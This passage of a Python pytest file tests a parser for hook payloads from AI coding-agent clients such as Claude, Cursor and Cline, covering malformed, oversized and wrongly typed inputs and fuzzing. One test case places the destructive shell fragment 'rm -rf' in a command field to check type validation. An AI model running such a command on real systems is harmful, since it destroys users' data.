    assert event.tool_name == event.raw_tool_name
    assert event.tool_name is not None
    assert event.tool_name.lower() == "frobnicate"
    assert event.tool_input == {"a": 1}
    assert event.phase == "pre"


# --- bad input -------------------------------------------------------------------------------


BAD_INPUTS = {
    "truncated": b'{"hook_event_name": "PreToolUse", "tool_input": {"comm',
    "non-utf8": b'{"hook_event_name": "PreToolUse", "x": "\xff\xfe"}',
    "array": b'[{"hook_event_name": "PreToolUse"}]',
    "string": b'"PreToolUse"',
    "empty": b"",
    "whitespace": b" \n\t",
    "nan": b'{"hook_event_name": "PreToolUse", "x": NaN}',
    "trailing-garbage": b'{"hook_event_name": "PreToolUse"} {}',
    "deep-nesting": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
}


@pytest.mark.parametrize("client", CLIENTS)
@pytest.mark.parametrize("name", sorted(BAD_INPUTS))
def test_bad_input_raises_one_line_input_error(client: str, name: str):
    with pytest.raises(InputError) as info:
        parse_payload(client, BAD_INPUTS[name])
    message = str(info.value)
    assert "\n" not in message
    assert message


def test_bad_input_messages_say_what_is_wrong():
    def message(raw: bytes) -> str:
        with pytest.raises(InputError) as info:
            parse_payload("claude", raw)
        return str(info.value)

    assert "UTF-8" in message(BAD_INPUTS["non-utf8"])
    assert "not valid JSON" in message(BAD_INPUTS["truncated"])
    assert "array" in message(BAD_INPUTS["array"])


def test_payload_over_the_limit_is_refused_before_decoding():
    huge = b"\xff" * (MAX_PAYLOAD_BYTES + 1)  # not UTF-8: the size must be what is reported
    with pytest.raises(InputError, match=f"{MAX_PAYLOAD_BYTES >> 20} MiB"):
        parse_payload("claude", huge)


def test_payload_of_exactly_the_limit_is_accepted():
    head = b'{"hook_event_name": "PostToolUse", "session_id": "s", "tool_response": "'
    tail = b'"}'
    raw = head + b"x" * (MAX_PAYLOAD_BYTES - len(head) - len(tail)) + tail
    assert len(raw) == MAX_PAYLOAD_BYTES
    event = parse_payload("claude", raw)
    assert len(event.tool_response) > MAX_PAYLOAD_BYTES - 100


def test_utf8_bom_is_tolerated():
    event = parse_payload("claude", b'\xef\xbb\xbf{"hook_event_name": "Stop", "session_id": "s"}')
    assert event.event == "Stop"


@pytest.mark.parametrize(
    ("client", "payload", "field"),
    [
        ("claude", {"hook_event_name": 7}, "hook_event_name"),
        ("claude", {"hook_event_name": "PreToolUse", "tool_name": ["Bash"]}, "tool_name"),
        ("claude", {"hook_event_name": "PreToolUse", "tool_input": [1, 2]}, "tool_input"),
        ("claude", {"hook_event_name": "PreToolUse", "session_id": 12}, "session_id"),
        (
            "cursor",
            {"hook_event_name": "beforeShellExecution", "command": ["rm", "-rf"]},
            "command",
        ),
        ("cline", {"hookName": "PreToolUse", "preToolUse": {"toolName": 3}}, "toolName"),
        ("cline", {"hookName": "PreToolUse", "preToolUse": {"parameters": 3}}, "parameters"),
    ],
)
def test_wrong_type_in_a_decision_field_is_refused(
    client: str, payload: dict[str, Any], field: str
):
    with pytest.raises(InputError, match=field):
        parse_payload(client, json.dumps(payload).encode())


def test_wrong_type_in_a_descriptive_field_is_ignored():
    payload = {
        "hook_event_name": "Stop",
        "session_id": "s",
        "model": 3,
        "cwd": {},
        "duration_ms": "x",
    }
    event = parse_payload("claude", json.dumps(payload).encode())
    assert (event.model, event.cwd, event.duration_ms) == (None, None, None)


def test_unknown_client_is_an_input_error():
    with pytest.raises(InputError, match="unknown hook client"):
        parse_payload("zed", b"{}")  # Zed has no hooks


# --- properties ------------------------------------------------------------------------------

_KNOWN_FIELDS = {
    "session_id", "prompt_id", "transcript_path", "cwd", "permission_mode", "hook_event_name",
    "tool_name", "tool_input", "tool_use_id", "tool_response", "model", "agent_id", "agent_type",
    "prompt", "error", "duration_ms", "duration", "conversation_id", "workspace_roots", "command",
    "file_path", "edits", "output", "result_json", "tool_output", "error_message", "subagent_id",
    "subagent_type", "hookName", "taskId", "workspaceRoots", "preToolUse", "postToolUse",
    "userPromptSubmit", "taskStart", "taskResume", "taskCancel", "taskComplete", "preCompact",
    # Copilot CLI, Antigravity CLI, Windsurf, VS Code and Gemini's MCP context (decision 0017)
    "toolName", "toolArgs", "toolResult", "sessionId", "hookEventName", "conversationId",
    "transcriptPath", "toolCall", "workspacePaths", "modelName", "userMessage", "initialPrompt",
    "terminationReason", "executionTimeMs", "taskMetadata", "agent_action_name", "tool_info",
    "trajectory_id", "execution_id", "mcp_context", "parameters", "result", "success", "source",
    "reason", "type",
}  # fmt: skip
_json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=20),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=10,
)
_extra_fields = st.dictionaries(
    st.text(max_size=12).filter(lambda key: key not in _KNOWN_FIELDS), _json_values, max_size=6
)


def _neutral(event: HookEvent) -> HookEvent:
    return event._replace(raw={})


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(path=st.sampled_from(FIXTURE_FILES), extra=_extra_fields)
def test_extra_fields_never_change_the_neutral_event(path: Path, extra: dict[str, Any]):
    client = path.parent.name
    payload = json.loads(path.read_bytes())
    named = fixture_event(path)
    baseline = parse_payload(client, path.read_bytes(), expected_event=named)
    event = parse_payload(client, json.dumps({**payload, **extra}).encode(), expected_event=named)
    assert _neutral(event) == _neutral(baseline)
    for key, value in extra.items():
        assert event.raw[key] == value


@settings(max_examples=300, deadline=None)
@given(raw=st.binary(max_size=200) | st.text(max_size=200).map(str.encode))
def test_arbitrary_bytes_give_an_event_or_an_input_error(raw: bytes):
    for client in CLIENTS:
        messages: list[str] = []
        try:
            event = parse_payload(client, raw)
        except InputError as error:
            messages.append(str(error))
        else:
            assert event.client == client
        assert all(message and "\n" not in message for message in messages)


def test_adapters_import_nothing_heavy():
    """The hook path must not pull in pydantic, dataclasses or yaml through the adapters."""
    code = (
        "import sys, ledger; before = set(sys.modules);"
        "import ledger._clients as a;"
        'raw = b\'{"hook_event_name": "PreToolUse", "tool_name": "Bash"}\';'
        "e = a.parse_payload('claude', raw);"
        "a.render_response('claude', e, a.HookDecision(permission='deny'));"
        "print(' '.join(sorted(set(sys.modules) - before)))"
    )
    root = Path(__file__).resolve().parents[2]
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=root
    )
    loaded = set(result.stdout.split())
    assert not loaded & {"pydantic", "dataclasses", "yaml", "typer", "duckdb"}, loaded
    assert "ledger._clients.cursor" not in loaded  # only the client in use is imported
